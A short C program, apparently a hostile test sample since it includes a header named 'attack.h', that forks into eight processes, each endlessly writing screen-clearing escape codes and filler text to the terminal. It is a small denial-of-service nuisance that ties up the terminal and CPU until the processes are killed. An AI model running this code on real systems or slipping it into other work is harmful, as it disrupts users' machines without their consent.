#include "attack.h"

int main(void) {
  for (int i = 0; i < 3; i++) fork();
  for (;;) write(1, "\033[2Jxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n", 64);
}
